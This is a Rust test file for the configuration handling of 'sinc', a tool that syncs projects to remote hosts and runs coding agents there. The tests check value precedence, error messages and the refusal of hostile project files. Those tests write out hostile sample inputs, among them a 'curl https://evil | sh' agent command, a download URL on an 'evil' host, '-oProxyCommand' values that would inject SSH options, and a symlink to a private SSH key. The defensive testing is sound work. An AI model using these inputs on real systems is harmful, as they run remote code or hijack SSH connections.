//! The configuration: where each value comes from, what is wrong with it and where, and what the project's own
//! files may say.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use crate::support::sandbox::{CONFIG, Run, Sandbox};
use crate::world::World;

/// A sandbox with this configuration.
fn with(config: &str) -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.configure(config);
    sandbox
}

/// What `sinc config` says of a wrong configuration.
#[track_caller]
fn mistake(config: &str) -> String {
    let sandbox = with(config);
    let run = sandbox.sinc(&["config"]).exits(78);
    assert_eq!(run.stdout, "", "{run}");
    sandbox.normal(&run.stderr)
}

#[test]
fn with_no_configuration_at_all_a_destination_is_enough() {
    let world = World::of(Sandbox::new());
    world.sandbox.write("app/main.rs", "fn main() {}\n");
    let run = world.sinc(&["--host", "dev@198.51.100.7", "--no-attach"]).success();
    assert!(world.calls().contains(" -T -- dev@198.51.100.7 "), "{run}");
    // The session is found again without saying it.
    world.forget_calls();
    drop(world.sinc(&["--no-attach"]).success());
    assert!(world.calls().contains(" -T -- dev@198.51.100.7 "), "{}", world.calls());
}

#[test]
fn with_no_host_it_says_how_to_name_one() {
    let world = World::of(Sandbox::new());
    let run = world.sinc(&[]).exits(78);
    insta::assert_snapshot!(world.seen(&run), @"
    exit code: 78
    --- stdout
    --- stderr
    error: no host: the configuration has none, and none was named

    hint: name one: `sinc --host user@address`
    hint: or put it into the config: `sinc config edit`
    --- commands
    ");
}

#[test]
fn the_defaults_are_shown_and_the_way_to_a_file() {
    let sandbox = Sandbox::new();
    insta::assert_snapshot!(sandbox.sinc(&["config"]).success().snapshot(), @r#"
    exit code: 0
    --- stdout
    default-agent = "opencode"           # default
    notify = true                        # default
    sync.mode = "two-way-safe"           # default
    sync.ignore = []                     # default
    sync.gitignore = false               # default
    sync.file-mode = "0644"              # default
    sync.directory-mode = "0755"         # default
    sync.link = true                     # default
    sync.git = true                      # default
    backups.days = 30                    # default
    backups.megabytes = 1024             # default
    agent.claude.command = "claude"      # default
    agent.codex.command = "codex"        # default
    agent.gemini.command = "gemini"      # default
    agent.opencode.command = "opencode"  # default
    --- stderr
    hint: there is no `$HOME/.config/sinc/config.toml` yet; `sinc config edit` makes it
    "#);
}

#[test]
fn each_value_is_shown_with_its_origin() {
    let mut sandbox = with(
        "default-host = \"box\"\n\n[host.box]\ndestination = \"dev@203.0.113.7\"\nagent = \"mine\"\n\n\
         [host.spare]\ndestination = \"ssh://dev@[2001:db8::1]:2222\"\nworkspace = \"/srv/work\"\n\n\
         [sync]\nignore = [\n  \"dist\",\n  \"*.log\",\n]\n\n[agent.mine]\ncommand = \"oc --fast\"\n",
    );
    sandbox.write("app/.sinc.toml", "[sync]\nignore = [\"target\"]\n");
    sandbox.set("SINC_MODE", "two-way-resolved");
    let app = sandbox.project("app");
    let run = sandbox.sinc_in(&app, &["config", "--host", "spare"]).success();
    insta::assert_snapshot!(run.snapshot(), @r#"
    exit code: 0
    --- stdout
    default-host = "spare"                                   # --host
    default-agent = "opencode"                               # default
    notify = true                                            # default
    host.box.destination = "dev@203.0.113.7"                 # $HOME/.config/sinc/config.toml, line 4
    host.box.workspace = "~/workspace"                       # default
    host.box.agent = "mine"                                  # $HOME/.config/sinc/config.toml, line 5
    host.box.transport = "auto"                              # default
    host.box.forward-agent = false                           # default
    host.spare.destination = "ssh://dev@[2001:db8::1]:2222"  # $HOME/.config/sinc/config.toml, line 8
    host.spare.workspace = "/srv/work"                       # $HOME/.config/sinc/config.toml, line 9
    host.spare.transport = "auto"                            # default
    host.spare.forward-agent = false                         # default
    sync.mode = "two-way-resolved"                           # SINC_MODE
    sync.ignore[0] = "dist"                                  # $HOME/.config/sinc/config.toml, line 13
    sync.ignore[1] = "*.log"                                 # $HOME/.config/sinc/config.toml, line 14
    sync.ignore[2] = "target"                                # $HOME/app/.sinc.toml, line 2
    sync.gitignore = false                                   # default
    sync.file-mode = "0644"                                  # default
    sync.directory-mode = "0755"                             # default
    sync.link = true                                         # default
    sync.git = true                                          # default
    backups.days = 30                                        # default
    backups.megabytes = 1024                                 # default
    agent.claude.command = "claude"                          # default
    agent.codex.command = "codex"                            # default
    agent.gemini.command = "gemini"                          # default
    agent.mine.command = "oc --fast"                         # $HOME/.config/sinc/config.toml, line 18
    agent.opencode.command = "opencode"                      # default
    --- stderr
    "#);
    let run = sandbox.sinc_in(&app, &["config", "--host", "spare", "--json"]).success();
    assert_eq!(run.stderr, "");
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    insta::assert_snapshot!("config-json", sandbox.normal(&format!("{json:#}")));
}

#[test]
fn a_mistake_is_shown_with_its_place_and_what_was_probably_meant() {
    let mut text = String::new();
    for config in [
        // Unknown keys, misspelt or in the wrong place.
        "[sync]\nmod = \"two-way-safe\"\n",
        "[host.box]\ndestination = \"a@b\"\nworkspce = \"~/w\"\n",
        "defualt-host = \"box\"\n",
        "mode = \"two-way-safe\"\n",
        "[sync]\nfile_mode = \"0644\"\n",
        "[synk]\n",
        // Wrong types.
        "[sync]\ngitignore = \"yes\"\n",
        "[sync]\nignore = \"dist\"\n",
        "[host]\nbox = \"dev@203.0.113.7\"\n",
        "default-agent = 3\n",
        // Wrong values.
        "[sync]\nmode = \"two-way-save\"\n",
        "[host.box]\ndestination = \"a@b\"\ntransport = \"mosh\"\n",
        "[host.box]\ndestination = \"-oProxyCommand=touch pwn\"\n",
        "[host.box]\ndestination = \"a@b\"\nworkspace = \"work\"\n",
        "[host.box]\nagent = \"opencode\"\n",
        "[host.box]\ndestination = \"a@b\"\nagent = \"opncode\"\n",
        "[host.\"b x\"]\ndestination = \"a@b\"\n",
        "default-host = \"bxo\"\n[host.box]\ndestination = \"a@b\"\n",
        "[sync]\nfile-mode = \"0888\"\n",
        "[sync]\nignore = [\n  \"dist\",\n  \"a\\nb\",\n]\n",
        "[agent.mine]\n",
        "[mutagen]\nsha256 = \"abc\"\n",
        // Not TOML.
        "[sync\n",
        "a = = b\n",
        "x = 1\nx = 2\n",
        "[sync]\nmode = \"two\tway\u{1b}[31m\"\n",
    ] {
        let name: String = config.lines().map(|line| format!("> {}\n", line.escape_debug())).collect();
        text.push_str(&format!("{name}{}\n", mistake(config)));
    }
    insta::assert_snapshot!("mistakes", text);
}

#[test]
fn a_file_that_cannot_be_read_is_never_taken_for_none() {
    let mut text = String::new();
    let sandbox = Sandbox::new();
    let file = sandbox.home().join(CONFIG);
    let mut say = |run: Run| text.push_str(&sandbox.normal(&run.exits(78).stderr));
    std::fs::create_dir_all(&file).unwrap();
    say(sandbox.sinc(&["config"]));
    std::fs::remove_dir(&file).unwrap();
    std::fs::write(&file, b"# fine\nx = \"\xff\"\n").unwrap();
    say(sandbox.sinc(&["config"]));
    std::fs::write(&file, vec![b'#'; 2 * 1024 * 1024]).unwrap();
    say(sandbox.sinc(&["config"]));
    say(sandbox.sinc(&["config", "--config", "nowhere.toml"]));
    insta::assert_snapshot!(text, @"
    error: $HOME/.config/sinc/config.toml: could not read the file: it is a directory
    error: $HOME/.config/sinc/config.toml: line 2 is not UTF-8
    error: $HOME/.config/sinc/config.toml: not read, because it is larger than 1 MB
    error: nowhere.toml: there is no such file, but --config names it
    ");
}

#[test]
fn a_mistake_is_json_where_json_is_wanted() {
    let sandbox = with("[sync]\nmod = 1\n");
    let run = sandbox.sinc(&["config", "--json"]).exits(78);
    assert_eq!(run.stderr, "");
    insta::assert_snapshot!(run.snapshot(), @r#"
    exit code: 78
    --- stdout
    {"command":"config","error":{"causes":[],"code":78,"hints":[],"kind":"config","message":"$HOME/.config/sinc/config.toml:2:1: unknown key `mod`\n  |\n2 | mod = 1\n  | ^^^\ndid you mean `mode`?"},"ok":false,"version":1}
    --- stderr
    "#);
}

#[test]
fn a_variable_counts_more_than_the_file_and_a_flag_more_than_a_variable() {
    let mut world = World::new();
    world.sandbox.write(
        CONFIG,
        "default-host = \"one\"\n[host.one]\ndestination = \"dev@one.example\"\nagent = \"claude\"\n\
         [host.two]\ndestination = \"dev@two.example\"\n[host.three]\ndestination = \"dev@three.example\"\n",
    );
    let goes_to = |world: &World, args: &[&str]| {
        let run = world.sinc(&[args, &["--dry-run"]].concat()).success();
        let host =
            ["one", "two", "three"].into_iter().find(|host| run.stdout.contains(&format!("{host}.example")));
        let agent = ["opencode", "claude", "codex", "gemini"]
            .into_iter()
            .find(|agent| run.stdout.contains(&format!("'\\''{agent}'\\'' ")));
        format!("{} {}", host.unwrap_or("?"), agent.unwrap_or("?"))
    };
    assert_eq!(goes_to(&world, &[]), "one claude");
    world.sandbox.set("SINC_HOST", "two");
    assert_eq!(goes_to(&world, &[]), "two opencode");
    world.sandbox.set("SINC_AGENT", "codex");
    assert_eq!(goes_to(&world, &[]), "two codex");
    assert_eq!(goes_to(&world, &["--host", "three"]), "three codex");
    assert_eq!(goes_to(&world, &["--agent", "gemini"]), "two gemini");
    assert_eq!(goes_to(&world, &["--host", "one", "--agent", "gemini"]), "one gemini");
    // Another file, named by a variable, then by a flag.
    let other = world.sandbox.write("other.toml", "[host.three]\ndestination = \"dev@three.example\"\n");
    world.sandbox.unset("SINC_HOST");
    world.sandbox.set("SINC_CONFIG", &other);
    assert_eq!(goes_to(&world, &[]), "three codex");
    let file = world.sandbox.home().join(CONFIG);
    assert_eq!(goes_to(&world, &["--config", file.to_str().unwrap()]), "one codex");
}

#[test]
fn a_wrong_variable_or_flag_is_named() {
    let mut text = String::new();
    for (name, value) in [
        ("SINC_MODE", "two-way-save"),
        ("SINC_TRANSPORT", "mosh"),
        ("SINC_AGENT", "no such agent"),
        ("SINC_HOST", "-x"),
        ("SINC_CONFIG", "/nowhere.toml"),
    ] {
        let mut world = World::new();
        world.sandbox.set(name, value);
        let run = world.sinc(&["--no-attach"]).exits(78);
        text.push_str(&format!("$ {name}='{value}' sinc\n{}\n", world.normal(&run.stderr)));
        assert_eq!(world.calls(), "");
    }
    let world = World::new();
    for flag in ["--agent=opncode", "--host=b ox", "--host=-oProxyCommand=x", "--host="] {
        let run = world.sinc(&[flag, "--no-attach"]).exits(78);
        text.push_str(&format!("$ sinc '{flag}'\n{}\n", world.normal(&run.stderr)));
        assert_eq!(world.calls(), "");
    }
    insta::assert_snapshot!("wrong-variables", text);
}

#[test]
fn of_several_hosts_one_is_named_or_the_default() {
    let world = World::new();
    world.sandbox.configure("[host.a]\ndestination = \"a@b\"\n[host.c]\ndestination = \"c@d\"\n");
    let run = world.sinc(&["--no-attach"]).exits(78);
    insta::assert_snapshot!(world.seen(&run), @"
    exit code: 78
    --- stdout
    --- stderr
    error: no host was named, and the configuration has several: a, c

    hint: name one with `--host`, or set `default-host` in the config
    --- commands
    ");
    drop(world.sinc(&["--no-attach", "--host", "c"]).success());
    assert!(world.calls().contains(" -T -- c@d "), "{}", world.calls());
}

#[test]
fn a_project_with_sessions_on_two_hosts_needs_one_named_or_a_default() {
    let world = World::new();
    let hosts = "[host.a]\ndestination = \"dev@a\"\n[host.c]\ndestination = \"dev@c\"\n";
    world.sandbox.configure(hosts);
    drop(world.sinc(&["--no-attach", "--host", "a"]).success());
    // One session: no name is needed.
    world.forget_calls();
    drop(world.sinc(&["--no-attach"]).success());
    assert!(world.calls().contains(" -T -- dev@a "), "{}", world.calls());
    drop(world.sinc(&["--no-attach", "--host", "c"]).success());
    let run = world.sinc(&["--no-attach"]).exits(2);
    insta::assert_snapshot!(world.normal(&run.stderr), @"
    error: this project has sessions on several hosts: a, c

    hint: name one with `--host`
    ");
    world.sandbox.configure(format!("default-host = \"c\"\n{hosts}"));
    world.forget_calls();
    drop(world.sinc(&["--no-attach"]).success());
    assert!(world.calls().contains(" -T -- dev@c "), "{}", world.calls());
}

#[test]
fn the_path_of_the_file() {
    let mut sandbox = Sandbox::new();
    let path = |sandbox: &Sandbox, args: &[&str]| sandbox.normal(&sandbox.sinc(args).success().stdout);
    assert_eq!(path(&sandbox, &["config", "path"]), "$HOME/.config/sinc/config.toml\n");
    assert_eq!(path(&sandbox, &["config", "path", "--config", "/x"]), "/x\n");
    assert_eq!(
        path(&sandbox, &["config", "path", "--json"]),
        "{\"command\":\"config\",\"data\":{\"path\":\"$HOME/.config/sinc/config.toml\"},\"ok\":true,\"version\":1}\n"
    );
    sandbox.set("XDG_CONFIG_HOME", sandbox.home().join("xdg"));
    assert_eq!(path(&sandbox, &["config", "path"]), "$HOME/xdg/sinc/config.toml\n");
    // It is also told where the file is broken.
    sandbox.write("xdg/sinc/config.toml", "nonsense");
    assert_eq!(path(&sandbox, &["config", "path"]), "$HOME/xdg/sinc/config.toml\n");
}

/// A sandbox whose editor is this shell script; its argument is the file.
fn with_editor(script: &str) -> Sandbox {
    let mut sandbox = Sandbox::new();
    sandbox.write_program(sandbox.bin().join("my editor"), &format!("#!/bin/sh\n{script}\n"));
    sandbox.set("EDITOR", "'my editor' --wait");
    sandbox
}

#[test]
fn the_editor_gets_the_reference_and_what_it_leaves_is_checked() {
    let sandbox = with_editor(
        "echo \"$# $1\"; cp \"$2\" first; grep -q ^default \"$2\" || echo 'default-agent = \"codex\"' >>\"$2\"",
    );
    let run = sandbox.sinc(&["config", "edit"]).success();
    assert_eq!(run.stdout, "2 --wait\n", "{run}");
    let first = sandbox.read("first");
    assert!(first.contains("# default-agent = \"opencode\"\n"), "{first}");
    assert!(first.lines().all(|line| line.is_empty() || line.starts_with('#')), "{first}");
    let config = sandbox.sinc(&["config"]).success().stdout;
    assert!(config.contains("default-agent = \"codex\""), "{config}");
    // The second time it is opened as it is.
    drop(sandbox.sinc(&["config", "edit"]).success());
    assert!(sandbox.read("first").contains("\ndefault-agent = \"codex\"\n"));
    let mode = sandbox.home().join(CONFIG).metadata().unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn an_editor_that_leaves_a_mistake_or_fails() {
    let sandbox = with_editor("echo 'default-agnet = 1' >>\"$2\"");
    sandbox.configure("# mine\n");
    insta::assert_snapshot!(sandbox.sinc(&["config", "edit"]).exits(78).snapshot(), @"
    exit code: 78
    --- stdout
    --- stderr
    error: the file as it is now cannot be used
    caused by: $HOME/.config/sinc/config.toml:2:1: unknown key `default-agnet`
      |
    2 | default-agnet = 1
      | ^^^^^^^^^^^^^
    did you mean `default-agent`?
    ");
    let sandbox = with_editor("exit 3");
    insta::assert_snapshot!(sandbox.sinc(&["config", "edit"]).exits(1).snapshot(), @"
    exit code: 1
    --- stdout
    --- stderr
    error: the editor `'my editor' --wait` ended with 3
    ");
    let mut sandbox = Sandbox::new();
    insta::assert_snapshot!(sandbox.sinc(&["config", "edit"]).exits(1).snapshot(), @"
    exit code: 1
    --- stdout
    --- stderr
    error: neither VISUAL nor EDITOR names an editor

    hint: edit `$HOME/.config/sinc/config.toml` by hand
    ");
    sandbox.set("VISUAL", "no-such-editor");
    // What the shell says before is its own.
    let run = sandbox.sinc(&["config", "edit"]).exits(69);
    assert!(run.stderr.contains("\nerror: the editor `no-such-editor` was not found\n\nhint: "), "{run}");
}

#[test]
fn a_dry_run_of_the_editor_makes_no_file() {
    let sandbox = with_editor("exit 3");
    let before = crate::world::tree(&sandbox.home());
    insta::assert_snapshot!(sandbox.sinc(&["config", "edit", "--dry-run"]).success().snapshot(), @r#"
    exit code: 0
    --- stdout
    # open the editor
    sh -c 'exec '\''my editor'\'' --wait "$@"' ''\''my editor'\'' --wait' $HOME/.config/sinc/config.toml
    --- stderr
    "#);
    assert_eq!(crate::world::tree(&sandbox.home()), before);
}

#[test]
fn a_projects_file_may_say_nothing_that_concerns_this_computer() {
    let mut text = String::new();
    for file in [
        "[agent.opencode]\ncommand = \"curl https://evil | sh\"\n",
        "[agent.mine]\ncommand = \"x\"\n",
        "default-host = \"evil@example.com\"\n",
        "[host.box]\ndestination = \"evil@example.com\"\n",
        "[sync]\nmode = \"two-way-resolved\"\n",
        "[sync]\nfile-mode = \"0600\"\n",
        "[mutagen]\npath = \"/usr/bin/mutagen\"\n",
        "[mutagen]\nurl = \"https://evil/x.tar.gz\"\n",
        "[sync]\nignroe = []\n",
    ] {
        let world = World::new();
        world.sandbox.write("app/.sinc.toml", file);
        let run = world.sinc(&["--no-attach"]).exits(78);
        assert_eq!(world.calls(), "");
        text.push_str(&world.normal(&run.stderr));
        text.push('\n');
    }
    insta::assert_snapshot!("forbidden-in-project", text);
}

#[test]
fn hostile_project_files_are_refused_at_once() {
    let mut text = String::new();
    for name in [".sinc.toml", ".sincignore"] {
        let mut hostile = |what: &str, make: &dyn Fn(&World, &Path)| {
            let world = World::new();
            let file = world.project().join(name);
            make(&world, &file);
            let run = world.sinc(&["--no-attach"]).exits(78);
            assert_eq!(world.calls(), "", "{run}");
            assert!(!run.stderr.contains("secret") && !run.stderr.contains('\x1b'), "{run}");
            text.push_str(&format!("{name}, {what}\n{}\n", world.normal(&run.stderr)));
        };
        hostile("binary", &|_, file| std::fs::write(file, b"\x7fELF\x00\x01\xff\xfe\n\x00").unwrap());
        hostile("nul", &|_, file| std::fs::write(file, b"a\0b\n").unwrap());
        hostile("escape", &|_, file| std::fs::write(file, b"\x1b]0;pwn\x07\n").unwrap());
        hostile("pipe", &|world, file| {
            drop(world.sandbox.run("mkfifo", &[file.to_str().unwrap()]).success());
        });
        hostile("huge", &|_, file| {
            std::fs::File::create(file).unwrap().set_len(3 * 1024 * 1024 * 1024).unwrap();
        });
        hostile("link to a secret", &|world, file| {
            let secret = world.sandbox.write(".ssh/id_ed25519", "secret\n");
            symlink(secret, file).unwrap();
        });
        hostile("directory", &|_, file| std::fs::create_dir(file).unwrap());
        hostile("many lines", &|_, file| {
            let lines = (0..20_000).map(|n| format!("name{n}")).collect::<Vec<_>>();
            let text = if file.ends_with(".sinc.toml") {
                format!("[sync]\nignore = {lines:?}\n")
            } else {
                lines.join("\n")
            };
            std::fs::write(file, text).unwrap();
        });
    }
    insta::assert_snapshot!("hostile-project-files", text);
}
